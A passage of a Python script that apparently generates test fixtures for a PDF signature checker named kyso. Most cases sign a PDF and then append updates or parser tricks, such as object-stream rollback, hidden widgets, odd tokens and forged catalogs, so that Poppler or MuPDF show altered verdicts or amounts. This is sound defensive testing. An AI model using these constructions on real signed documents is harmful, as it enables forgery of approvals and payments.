save('higher-generation', signed, append(bytes(genned), [(4, original)],
                                         b'/Size %d /Root 1 0 R /Info 999 0 R' % size))
# A header whose number is past 2^32 - 1 inside a stream's data (Poppler wraps it to 4).
big = b'padding\n4294967300 0 obj\n' + FORGED[:FORGED.rindex(b'\nendstream')]
save('number-past-u32', signed, append(signed, [(size, stream(big))],
                                       b'/Size %d /Root 1 0 R /Info 999 0 R' % (size + 1)))


# The signer's file keeps its objects in object stream 6, page 3's /Contents being object 9:
# there `[8 0 R]` (a forged content), rewritten plainly in a later revision as `[4 0 R]` (the
# real one), and an unused object stream 11. After signing, an update that only frees 11:
# MuPDF, checking the table as it loads it, rebuilds it and takes object stream members over
# plain objects, rolling 9 back to the forged content.
def xref_stream_file(objs, members, entries_extra, trailer):
    import zlib
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    ent = {0: (0, 0, 65535)}
    for n, body in objs:
        ent[n] = (1, len(out), 0)
        out += b'%d 0 obj\n' % n + body + b'\nendobj\n'
    ent.update(entries_extra)
    xnum = max(ent) + 1
    x = len(out)
    ent[xnum] = (1, x, 0)
    rows = b''.join(bytes([ent[n][0]]) + ent[n][1].to_bytes(4, 'big') + ent[n][2].to_bytes(2, 'big')
                    if n in ent else b'\x00' + bytes(4) + b'\x00\x01' for n in range(xnum + 1))
    data = zlib.compress(rows)
    out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] %s /Length %d /Filter /FlateDecode >>\nstream\n'
            % (xnum, xnum + 1, trailer, len(data)) + data + b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % x)
    return bytes(out)


IDS = b'/ID [<0123456789abcdef0123456789abcdef><0123456789abcdef0123456789abcdef>]'
GOOD = stream(b'BT /F1 16 Tf 60 700 Td (Quyet dinh: KHONG cap phep xay dung.) Tj ET')
in_stream = [(1, b'<< /Type /Catalog /Pages 2 0 R >>'), (2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
             (3, b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 9 0 R '
                 b'/Resources << /Font << /F1 5 0 R >> >> >>'),
             (5, HELV), (9, b'[8 0 R]')]
prepared = xref_stream_file(
    [(4, GOOD), (8, FORGED), (6, object_stream(in_stream)), (11, object_stream([(12, b'<< /Note (spare) >>')]))],
    in_stream, dict([(n, (2, 6, i)) for i, (n, _) in enumerate(in_stream)] + [(12, (2, 11, 0)), (10, (0, 0, 1))]),
    b'/Root 1 0 R ' + IDS)
prepared = append_xref_stream(prepared, [(9, b'[4 0 R]')], {}, b'/Root 1 0 R ' + IDS, 14)
rolled = sign(prepared)
save('free-object-stream', rolled, append(rolled, [], b'/Size %d /Root 1 0 R %s' % (last_xref(rolled)[1], IDS),
                                          {11: None}))
# The same file after signing with an update kyso knows no trigger in (a new /Info): MuPDF,
# once anything makes it rebuild, rolls object 9 back all the same.
rolled_size = last_xref(rolled)[1]
save('object-stream-rollback', rolled, append(
    rolled, [(rolled_size, b'<< /Producer (x) >>')],
    b'/Size %d /Root 1 0 R /Info %d 0 R %s' % (rolled_size + 1, rolled_size, IDS)))


def resign(pdf, name, stamp_text=None):
    """pyHanko signs again (visibly, with this stamp text, when given)."""
    from pyhanko import stamp
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigFieldSpec, SigSeedSubFilter, append_signature_field
    s = signers.SimpleSigner.load(os.path.join(D, 'signer.key'), os.path.join(D, 'signer.pem'),
                                  ca_chain_files=(os.path.join(D, 'root.pem'),))
    w = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=False)
    style = None
    if stamp_text:
        append_signature_field(w, SigFieldSpec(name, box=(50, 50, 300, 120)))
        style = stamp.TextStampStyle(stamp_text=stamp_text)
    out = io.BytesIO()
    signers.PdfSigner(signers.PdfSignatureMetadata(field_name=name, subfilter=SigSeedSubFilter.PADES),
                      signer=s, stamp_style=style).sign_pdf(w, output=out)
    return out.getvalue()


# What must still pass: pyHanko signing again, invisibly and with a stamp whose text says "obj".
save('signed-twice', signed, resign(signed, 'Sig2'))
save('stamp-says-obj', signed, resign(signed, 'Sig3', 'Ref: obj 12 / %(signer)s'))
# A file keeping its catalog, pages and font in an object stream, signed by pyHanko twice with
# stamps and twice invisibly: pyHanko rewrites the catalog and the page plainly, and their
# versions in the object stream (which MuPDF's rebuild takes) lack only the signatures.
members = [(1, b'<< /Type /Catalog /Pages 2 0 R >>'), (2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
           (3, b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
               b'/Resources << /Font << /F1 5 0 R >> >> >>'), (5, HELV)]
compact = xref_stream_file([(4, GOOD), (6, object_stream(members))], members,
                           dict((n, (2, 6, i)) for i, (n, _) in enumerate(members)), b'/Root 1 0 R ' + IDS)
save('object-streams-stamped', compact,
     resign(resign(resign(compact, 'Sig1', 'First %(signer)s'), 'Sig2', 'Second %(signer)s'), 'Sig3'))
save('object-streams-invisible', compact, resign(resign(compact, 'SigA'), 'SigB'))

# 2. A widget's /Parent outside the /Fields tree: the value it inherits is changed.
form = {
    1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] /DR << /Font << /Helv 7 0 R >> >> '
       b'/DA (/Helv 0 Tf 0 g) >> >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
       b'/Resources << /Font << /F1 7 0 R >> >> /Annots [5 0 R] >>',
    4: stream(b'BT /F1 14 Tf 50 750 Td (Payment order. Amount:) Tj ET'),
    5: b'<< /Type /Annot /Subtype /Widget /Rect [50 700 400 730] /F 4 /P 3 0 R /Parent %d 0 R >>',
    6: b'<< /FT /Tx /T (amount) /V (100 VND) /DA (/Helv 14 Tf 0 g) /Kids [5 0 R] >>',
    7: HELV,
}
changed = b'<< /FT /Tx /T (amount) /V (999,999,999 VND) /DA (/Helv 14 Tf 0 g) /Kids [5 0 R] >>'
orphan = dict(form)
orphan[1] = form[1] % b''
orphan[5] = form[5] % 6
signed = sign(build(orphan))
save('orphan-parent', signed, update(signed, {6: changed}))
mismatch = dict(form)
mismatch[1] = form[1] % b'6 0 R'
mismatch[5] = form[5] % 8
mismatch[8] = form[6]
signed = sign(build(mismatch))
save('parent-mismatch', signed, update(signed, {8: changed}))

# 3. An unsigned signature field's widget drawing over the page, hidden by a reading kyso alone
#    makes of /F or /Rect.
page3 = dict(page)
page3[4] = stream(b'BT /F1 16 Tf 60 700 Td (Ket qua: KHONG DAT) Tj ET')
signed = sign(build(page3))
prev, size = last_xref(signed)
pg = raw(signed, 3)
DRAWN = stream(b'1 g 0 0 520 50 re f BT 0 g /F1 16 Tf 20 20 Td (Ket qua: DAT - da duyet) Tj ET',
               b'/Type /XObject /Subtype /Form /BBox [0 0 520 50] /Resources << /Font << /F1 5 0 R >> >> ')
# A 26 x 5 bitmap of "DAT" in palette indices 0x00 (black) and 0x20 (white): bytes that are all
# white space to a reader of text.
DAT = [' ### ### ### ', ' #  ## ## #  ', ' #  #####  # ', ' #  ## ## #  ', ' ### ## ## # ']
IMAGE = stream(b''.join(bytes(0 if c == '#' else 0x20 for c in row) * 2 for row in DAT),
               b'/Type /XObject /Subtype /Image /Width 26 /Height 5 /BitsPerComponent 8 '
               b'/ColorSpace [/Indexed /DeviceRGB 32 <' + b'000000' + b'FFFFFF' * 32 + b'>] '
               b'/BBox [0 0 1 1] ')  # Ghostscript maps the image's unit square onto the /Rect
for name, rect, flags, drawn in [('flags-control', b'[40 680 560 730]', b'4', DRAWN),
                                 ('flags-big', b'[40 680 560 730]', b'4294967298', DRAWN),
                                 ('rect-five', b'[40 680 560 730 0]', b'4', DRAWN),
                                 ('flags-past-int32', b'[40 680 560 730]', b'2147483650', DRAWN),
                                 ('image-appearance', b'[40 680 560 730]', b'4', IMAGE),
                                 # helper 224: Ghostscript 10.00 draws the appearance at its
                                 # /BBox's size at a /Rect with no area
                                 ('zero-rect', b'[40 680 40 680]', b'4', DRAWN)]:
    w, f, ap = size, size + 1, size + 2
    objs = {
        w: b'<< /Type /Annot /Subtype /Widget /Rect %s /F %s /P 3 0 R /Parent %d 0 R /AP << /N %d 0 R >> >>'
           % (rect, flags, f, ap),
        f: b'<< /FT /Sig /T (Sig2) /Kids [%d 0 R] >>' % w,
        ap: drawn,
    }
    objs[3] = with_annot(pg, w)
    n, form = with_field(signed, f)
    objs[n] = form
    save(name, signed, update(signed, objs))

# 4. A field drawn from /DA by MuPDF (its /AP /N a state dictionary, no /AS): /DA turned white.
statedict = {
    1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R] >>',
    4: stream(b'BT /F1 12 Tf 60 680 Td (Dien tich:) Tj ET'),
    5: HELV,
    6: b'<< /Fields [7 0 R] /DR << /Font << /Helv 8 0 R >> >> /DA (/Helv 12 Tf 0 g) >>',
    7: b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (dien_tich) /V (100 m2) /Rect [120 676 300 694] '
       b'/F 4 /P 3 0 R /Ff 1 /AP << /N << /Unused 9 0 R >> >> >>',
    8: HELV,
    9: stream(b'', b'/Type /XObject /Subtype /Form /BBox [0 0 180 18] '),
}
signed = sign(build(statedict))
save('ap-state-dict-da', signed, update(signed, {6: raw(signed, 6).replace(b'12 Tf 0 g)', b'12 Tf 1 g)')}))

# 5. N fields, N form fonts, every font changed after signing.
many = {
    1: b'<< /Type /Catalog /Pages 2 0 R /AcroForm 6 0 R >>',
    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
       b'/Resources << /Font << /F1 5 0 R >> >> >>',
    4: stream(b'BT /F1 12 Tf 60 680 Td (form) Tj ET'),
    5: HELV,
    7: stream(b'', b'/Type /XObject /Subtype /Form /BBox [0 0 10 10] '),
}
fields, fonts = 10, 10 + N
for i in range(N):
    many[fields + i] = b'<< /FT /Tx /T (f%d) /V (x) /Rect [0 0 10 10] /AP << /N 7 0 R >> >>' % i
    many[fonts + i] = HELV
many[6] = (b'<< /Fields [' + b' '.join(b'%d 0 R' % (fields + i) for i in range(N)) + b'] /DR << /Font << '
           + b' '.join(b'/F%d %d 0 R' % (i, fonts + i) for i in range(N)) + b' >> >> /DA (/F0 12 Tf 0 g) >>')
signed = sign(build(many))
save('fonts-fields', signed, update(signed, {
    fonts + i: b'<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>' for i in range(N)}))

# 6. Found reading the rule on earlier versions (2026-12-02), each TOTAL-PASSED by the build
#    before it, each shown by Poppler or MuPDF once they rebuild (any trigger).
signed = sign(build(page))
prev, size = last_xref(signed)
forged_page = (b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R '
               b'/Resources << /Font << /F1 5 0 R >> >> >>' % (size + 1))
one = object_stream([(3, forged_page)])
# A new object stream whose /Type is a reference of another generation (MuPDF ignores it).
save('objstm-type-other-generation', signed, append(
    signed, [(size, one.replace(b'/Type /ObjStm', b'/Type %d 5 R' % (size + 2))), (size + 1, FORGED),
             (size + 2, b'/ObjStm')], b'/Size %d /Root 1 0 R' % (size + 3)))
# ... whose /N is written 1.0 (MuPDF rounds it).
save('objstm-real-n', signed, append(signed, [(size, one.replace(b'/N 1 ', b'/N 1.0 ')), (size + 1, FORGED)],
                                     b'/Size %d /Root 1 0 R' % (size + 2)))
# A stream whose data holds 255 bytes and then a forged `4 0 obj` (Poppler reads lines of at most
# 255 bytes), and an /Info that does not exist.
save('header-after-255-bytes', signed, append(
    signed, [(size, stream(b'A' * 255 + b'4 0 obj\n' + FORGED[:FORGED.rindex(b'\nendstream')]))],
    b'/Size %d /Root 1 0 R /Info 999 0 R' % (size + 1)))
# The same for a trailer naming a new catalog, the update's section a cross-reference stream.
c = size + 1
save('trailer-after-255-bytes', signed, append_xref_stream(
    signed, [(size, stream(b'A' * 255 + b'trailer\n<< /Size %d /Root %d 0 R >>\n' % (c + 4, c))),
             (c, b'<< /Type /Catalog /Pages %d 0 R >>' % (c + 1)),
             (c + 1, b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % (c + 2)),
             (c + 2, b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R '
                     b'/Resources << /Font << /F1 5 0 R >> >> >>' % (c + 1, c + 3)),
             (c + 3, FORGED)], {}, b'/Root 1 0 R', c + 4))
# The signer's file holding a forged version under a header MuPDF reads and kyso did not
# (`+4 0 obj`, `4 0 %x⏎obj`); after signing, an update with a new /Info only.
for name, hidden in [('signer-file-signed-number', b'+4 0 obj\n'), ('signer-file-comment-header', b'4 0 %x\nobj\n')]:
    shadow_signed = sign(shadowed(hidden + FORGED + b'\nendobj\n'))
    n = last_xref(shadow_signed)[1]
    save(name, shadow_signed, append(shadow_signed, [(n, b'<< /Producer (x) >>')],
                                     b'/Size %d /Root 1 0 R /Info %d 0 R' % (n + 1, n)))
# Headers inside a string nested 20,000 deep: each read the rest of the file (100 s for 468 KB).
nested = dict(page)
nested[6] = stream(b'9999 0 obj << /S (' * 20000 + b') >> ' * 20000)
nested_signed = sign(build(nested))
n = last_xref(nested_signed)[1]
save('nested-string-headers', nested_signed, append(nested_signed, [(n, b'<< /Producer (x) >>')],
                                                    b'/Size %d /Root 1 0 R /Info %d 0 R' % (n + 1, n)))
# A form kept in object stream 6, its field filled before signing into object stream 9 (MuPDF's
# rebuild takes 9's, the signed one), signed twice: passes. The same field filled by a plain
# update: a rebuild shows it unfilled (said: INDETERMINATE).
widget = (b'<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) %s/Rect [60 600 300 620] /F 4 /P 3 0 R '
          b'/DA (/Helv 12 Tf 0 g) %s>>')
form_members = [
    (1, b'<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [7 0 R] /DA (/Helv 12 Tf 0 g) '
        b'/DR << /Font << /Helv 5 0 R >> >> >> >>'),
    (2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    (3, b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
        b'/Resources << /Font << /F1 5 0 R >> >> /Annots [7 0 R] >>'), (5, HELV),
    (7, widget % (b'', b''))]
form = xref_stream_file([(4, GOOD), (6, object_stream(form_members))], form_members,
                        dict((n, (2, 6, i)) for i, (n, _) in enumerate(form_members)), b'/Root 1 0 R ' + IDS)
field_ap = stream(b'/Tx BMC BT /Helv 12 Tf 0 g 2 5 Td (100 VND) Tj ET EMC',
                  b'/Type /XObject /Subtype /Form /BBox [0 0 240 20] /Resources << /Font << /Helv 5 0 R >> >> ')
in_stream = append_xref_stream(form, [(9, object_stream([(7, widget % (b'/V (100 VND) ', b'/AP << /N 11 0 R >> '))])),
                                      (11, field_ap)], {7: (2, 9, 0)}, b'/Root 1 0 R ' + IDS, 10)
save('filled-into-object-stream', in_stream, resign(resign(in_stream, 'Sig1'), 'Sig2'))
plain = append_xref_stream(form, [(7, widget % (b'/V (100 VND) ', b'/AP << /N 9 0 R >> ')), (9, field_ap)],
                           {}, b'/Root 1 0 R ' + IDS, 10)
plain_signed = resign(plain, 'Sig1')
save('filled-plainly', plain_signed, resign(plain_signed, 'Sig2'))

# 7. Found reading those fixes (2026-12-02): MuPDF opened, with no trigger, a catalog named by a
#    dictionary inside an array of a new object, its repair started by a trailer whose /Size had
#    70,000 leading zeros (the same update with a plain trailer: the hidden dictionary alone);
#    the signer's file holding a forged version under a 256-digit number (MuPDF wraps it to 4,
#    Poppler reads `4 0 obj` from its second 255-byte line), under `4 0 %<5,000 bytes>⏎obj`,
#    or a catalog named by a trailer kyso could not read (`<< /Root 50 0 R 5 >>`).
signed = sign(build(page))
prev, size = last_xref(signed)
f = size
hidden_catalog = [
    (f, b'<< /Type /Catalog /Pages %d 0 R >>' % (f + 1)),
    (f + 1, b'<< /Type /Pages /Kids [%d 0 R] /Count 1 >>' % (f + 2)),
    (f + 2, b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R '
            b'/Resources << /Font << /F1 5 0 R >> >> >>' % (f + 1, f + 3)),
    (f + 3, FORGED),
    (f + 4, b'[0 << /Root %d 0 R >>]' % f)]
save('root-in-array', signed, append(signed, hidden_catalog, b'/Size %d /Root 1 0 R' % (f + 5)))
save('long-number-trailer', signed,
     append(signed, hidden_catalog, b'/Size %s%d /Root 1 0 R' % (b'0' * 70000, f + 5)))
for name, hidden in [('signer-file-number-past-u32', b'\n1' + b'0' * 254 + b'4 0 obj\n'),
                     ('signer-file-long-comment', b'4 0 %' + b'A' * 5000 + b'\nobj\n')]:
    shadow_signed = sign(shadowed(hidden + FORGED + b'\nendobj\n'))
    save(name, shadow_signed, append(shadow_signed, [], b'/Size %d /Root 1 0 R' % last_xref(shadow_signed)[1]))
compact_form = xref_stream_file(sorted(page.items()), [], {}, b'/Root 1 0 R ' + IDS)
i = compact_form.rindex(b'startxref')
hidden_trailer = (b'50 0 obj\n<< /Type /Catalog /Pages 51 0 R >>\nendobj\n'
                  b'51 0 obj\n<< /Type /Pages /Kids [52 0 R] /Count 1 >>\nendobj\n'
                  b'52 0 obj\n<< /Type /Page /Parent 51 0 R /MediaBox [0 0 595 842] /Contents 53 0 R '
                  b'/Resources << /Font << /F1 5 0 R >> >> >>\nendobj\n'
                  b'53 0 obj\n' + FORGED + b'\nendobj\ntrailer\n<< /Root 50 0 R 5 >>\n')
trailer_signed = sign(compact_form[:i] + hidden_trailer + compact_form[i:])
save('signer-file-unreadable-trailer', trailer_signed, append_xref_stream(
    trailer_signed, [], {}, b'/Root 1 0 R ' + IDS, max(int(x) for x in re.findall(rb'/Size (\d+)', trailer_signed))))

# 8. Found reading those fixes (2026-12-02): updates that make readers repair on opening (a
#    /Size past MuPDF's largest object number, an /Info that does not exist), and signer's
#    files whose signed version a repairing reader does not find: a catalog only in an object
#    stream beside a forged one named in a dictionary inside an array (MuPDF picks its catalog
#    before loading object streams), the signed page content's header inside another object's
#    stream data or inside a string (a forged one before it wins). Each then updated with only a
#    new /Info.
signed = sign(build(page))
prev, size = last_xref(signed)
save('size-past-mupdf', signed, append(signed, [(size, b'<< /Producer (x) >>')],
                                       b'/Size 8388609 /Root 1 0 R /Info %d 0 R' % size))
save('info-missing', signed, append(signed, [], b'/Size %d /Root 1 0 R /Info 999 0 R' % size))


def new_info(pdf):
    n = last_xref(pdf)[1]
    return append(pdf, [(n, b'<< /Producer (x) >>')], b'/Size %d /Root 1 0 R /Info %d 0 R %s' % (n + 1, n, IDS))


catalog_members = [
    (1, b'<< /Type /Catalog /Pages 2 0 R /AcroForm 7 0 R /Extensions << /ESIC << /Type /DeveloperExtensions '
        b'/BaseVersion /1.7 /ExtensionLevel 1 >> >> >>'),
    (2, b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>'),
    (3, b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R '
        b'/Resources << /Font << /F1 5 0 R >> >> /Annots [8 0 R] >>'),
    (5, HELV), (7, b'<< /Fields [8 0 R] /SigFlags 3 >>'),
    (8, b'<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig1) /Rect [0 0 0 0] /F 132 /P 3 0 R >>')]
forged_catalog = [
    (20, b'<< /Type /Catalog /Pages 21 0 R >>'), (21, b'<< /Type /Pages /Kids [22 0 R] /Count 1 >>'),
    (22, b'<< /Type /Page /Parent 21 0 R /MediaBox [0 0 595 842] /Contents 23 0 R '
         b'/Resources << /Font << /F1 5 0 R >> >> >>'),
    (23, FORGED), (24, b'[0 << /Root 20 0 R >>]')]
fallback = sign(xref_stream_file([(4, GOOD), (6, object_stream(catalog_members))] + forged_catalog,
                                 catalog_members, dict((n, (2, 6, i)) for i, (n, _) in enumerate(catalog_members)),
                                 b'/Root 1 0 R ' + IDS))
save('catalog-fallback', fallback, new_info(fallback))
for name, wrap in [('signed-header-in-stream-data', lambda h: b'<< /Length %d >>\nstream\n' % len(h) + h + b'\nendstream'),
                   ('signed-header-in-string', lambda h: b'[(' + h + b')]')]:
    good4 = b'4 0 obj\n' + GOOD + b'\nendobj\n'
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    offs = {}
    for n, body in [(1, page[1]), (2, page[2]), (3, page[3]), (4, FORGED), (5, HELV),
                    (10, wrap(b'%% attachment ' + good4 + b'% end\n'))]:
        offs[n] = len(out)
        out += b'%d 0 obj\n' % n + body + b'\nendobj\n'
    offs[4] = offs[10] + out[offs[10]:].index(good4)
    x = len(out)
    out += b'xref\n0 11\n0000000000 65535 f \n'
    for n in range(1, 11):
        out += (b'%010d 00000 n \n' % offs[n]) if n in offs else b'0000000000 00000 f \n'
    out += b'trailer\n<< /Size 11 /Root 1 0 R ' + IDS + b' >>\nstartxref\n%d\n%%%%EOF\n' % x
    hidden_signed = sign(bytes(out))
    save(name, hidden_signed, new_info(hidden_signed))

# 9. What must not fail (found checking for false failures, 2026-12-02): a file keeping its
#    catalog and page in an object stream, edited by pyHanko before signing (the catalog's
#    /Lang set; a Square annotation added), then signed twice. Its earlier versions are the
#    document's history: told, not failed.
from pyhanko.pdf_utils import generic as pdf_generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter


def edited(base, edit):
    w = IncrementalPdfFileWriter(io.BytesIO(base), strict=False)
    edit(w)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def set_lang(w):
    w.root[pdf_generic.NameObject('/Lang')] = pdf_generic.pdf_string('vi-VN')
    w.update_root()


def add_square(w):
    pg = w.root['/Pages']['/Kids'][0].get_object()
    ap = w.add_object(pdf_generic.StreamObject({
        pdf_generic.NameObject('/Type'): pdf_generic.NameObject('/XObject'),
        pdf_generic.NameObject('/Subtype'): pdf_generic.NameObject('/Form'),
        pdf_generic.NameObject('/BBox'): pdf_generic.ArrayObject([pdf_generic.NumberObject(x) for x in (0, 0, 100, 30)])},
        stream_data=b'1 0 0 RG 2 2 96 26 re S'))
    ann = w.add_object(pdf_generic.DictionaryObject({
        pdf_generic.NameObject('/Type'): pdf_generic.NameObject('/Annot'),
        pdf_generic.NameObject('/Subtype'): pdf_generic.NameObject('/Square'),
        pdf_generic.NameObject('/Rect'): pdf_generic.ArrayObject([pdf_generic.NumberObject(x) for x in (300, 600, 400, 630)]),
        pdf_generic.NameObject('/F'): pdf_generic.NumberObject(4),
        pdf_generic.NameObject('/AP'): pdf_generic.DictionaryObject({pdf_generic.NameObject('/N'): ap})}))
    pg[pdf_generic.NameObject('/Annots')] = pdf_generic.ArrayObject([ann])
    w.update_container(pg)


for name, edit in [('object-streams-lang-set', set_lang), ('object-streams-annotated', add_square)]:
    once = resign(edited(compact, edit), 'Sig1')
    save(name, once, resign(once, 'Sig2'))

# 10. Found by an attacker's reading of kyso's lexer (2026-12-03), each TOTAL-PASSED by the
#     build before while a reader showed "900 VND" where the signer saw "100 VND": tokens
#     readers read differently.
NINE = (b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding '
        b'/BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>')


def amount(font_name, fonts, font_objs):
    return {
        1: b'<< /Type /Catalog /Pages 2 0 R >>',
        2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
           b'/Resources << /Font 6 0 R >> >>',
        4: stream(b'BT /' + font_name + b' 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET'),
        6: fonts,
        **font_objs,
    }


signed = sign(build(amount(b'A#4G', b'<< /A#4G 7 0 R /A#234H 8 0 R >>', {7: HELV, 8: NINE})))
save('name-half-escape', signed, update(signed, {6: b'<< /A#234G 7 0 R /A#4H 8 0 R >>'}))
P = b'A' * 127
signed = sign(build(amount(P + b'X', b'<< /' + P + b'Y 8 0 R /' + P + b'X 7 0 R >>', {7: HELV, 8: NINE})))
save('name-past-127', signed, update(signed, {6: b'<< /' + P + b'X 7 0 R /' + P + b'Y 8 0 R >>'}))


def differences(code):
    return (b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding '
            b'/BaseEncoding /WinAnsiEncoding /Differences [48 /zero ' + code + b' /nine] >> >>')


signed = sign(build(amount(b'F1', b'<< /F1 9 0 R >>', {9: differences(b'18446744073709551616')})))
save('integer-past-64-bits', signed, update(signed, {9: differences(b'18446744073709551665')}))

# ... and where a stream's data begins after `stream`: Poppler skips the rest of the line,
# MuPDF skips spaces and takes the next byte as the end of line; neither reads `streamq`.
def page_of(contents, extra=None):
    objs = {
        1: b'<< /Type /Catalog /Pages 2 0 R >>',
        2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        3: b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R '
           b'/Resources << /Font << /F1 9 0 R >> >> >>',
        4: stream(contents),
        9: HELV,
    }
    objs.update(extra or {})
    return objs


def stream_written(n, data):
    return update(signed, {n: b'<< /Length %d >>\nstream' % len(data) + data + b'\nendstream'})


X = (b' BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET\n'
     b'BT /F1 14 Tf 50 700 Td (Nguoi nop: Nguyen Van A) Tj ET')
signed = sign(build(page_of(X)))
save('stream-space', signed, stream_written(4, X))
X = (b' %BT /F1 14 Tf 50 750 Td (Le phi: 900 VND) Tj ET 1 0 0 1 0 3000 cm\n'
     b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET')
signed = sign(build(page_of(X)))
save('stream-space-comment', signed, stream_written(4, X))
X = b'q\n1 1 1 rg 40 740 300 30 re f 0 g BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET\nQ'
objs = page_of(b'BT /F1 14 Tf 50 750 Td (Le phi: 900 VND) Tj ET', {5: stream(X)})
objs[3] = objs[3].replace(b'/Contents 4 0 R', b'/Contents [4 0 R 5 0 R]')
signed = sign(build(objs))
save('stream-run-in', signed, stream_written(5, X))


def form_at(ty):
    return stream(b'1 1 1 rg 40 740 300 30 re f 0 g BT /F1 14 Tf 50 750 Td (Le phi: 900 VND) Tj ET',
                  b'/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Matrix [1 0 0 1 0 %d.0] '
                  b'/Resources << /Font << /F1 9 0 R >> >> ' % ty)


objs = page_of(b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET q /Fm Do Q', {5: form_at(2 ** 100 + 5000)})
objs[3] = objs[3].replace(b'/Resources << /Font << /F1 9 0 R >> >>',
                          b'/Resources << /Font << /F1 9 0 R >> /XObject << /Fm 5 0 R >> >>')
signed = sign(build(objs))
save('real-past-int', signed, update(signed, {5: form_at(2 ** 100)}))


# ... and structure readers resolve or read otherwise (found by an attacker's reading of the
# document structure, 2026-12-03).
import zlib


def xs_file(plain, objstms):
    """One revision with a cross-reference stream; objstms: number -> (dictionary extra,
    data as written, member numbers)."""
    out = bytearray(b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')
    ent = {}
    for n in sorted(plain):
        ent[n] = (1, len(out), 0)
        out += b'%d 0 obj\n' % n + plain[n] + b'\nendobj\n'
    for n, (extra, data, members) in sorted(objstms.items()):
        ent[n] = (1, len(out), 0)
        out += (b'%d 0 obj\n<< /Type /ObjStm /Length %d %s >>\nstream\n' % (n, len(data), extra)
                + data + b'\nendstream\nendobj\n')
        for i, m in enumerate(members):
            ent[m] = (2, n, i)
    xs = max(ent) + 1
    ent[xs] = (1, len(out), 0)
    rows = b''.join(bytes([t]) + a.to_bytes(4, 'big') + g.to_bytes(2, 'big')
                    for t, a, g in (ent.get(i, (0, 0, 65535 if i == 0 else 0)) for i in range(xs + 1)))
    x = len(out)
    out += (b'%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s /Length %d >>\nstream\n'
            % (xs, xs + 1, IDS, len(rows))) + rows + b'\nendstream\nendobj\n'
    return bytes(out + b'startxref\n%d\n%%%%EOF\n' % x)


def pad(b, n):
    return b + b' ' * (n - len(b))


plain = page_of(b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET',
                {5: stream(b'BT /F1 14 Tf 50 750 Td (Le phi: 900 VND) Tj ET'), 11: b'20'})
plain[3] = plain[3].replace(b'/Contents 4 0 R', b'/Contents 8 0 R')
data = pad(b'8 20', 20) + pad(b'[4 0 R]', 20) + pad(b'[4 0 R]', 20) + pad(b'[5 0 R]', 20) + b'[5 0 R]'
signed = sign(xs_file(plain, {10: (b'/N 1 /First 11 0 R', data, [8])}))
save('objstm-first-by-reference', signed, update(signed, {11: b'60'}))

# Inflated, two rows of C + 1 bytes each beginning with a NUL (white space): `[4<NUL>9 /nine]`
# is [4 9 /nine]; with a PNG predictor the rows lose their first byte: [49 /nine].
FIRST = 10
row0 = b'\x008 0' + b' ' * (FIRST - 3) + b'<< /Type /Encoding /Differences [4'
C = len(row0) - 1
row1 = pad(b'\x009 /nine] >>', C + 1)
plain = page_of(b'BT /F1 14 Tf 50 750 Td (Le phi: 100 VND) Tj ET',
                {9: b'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding 8 0 R >>', 11: b'<< >>'})
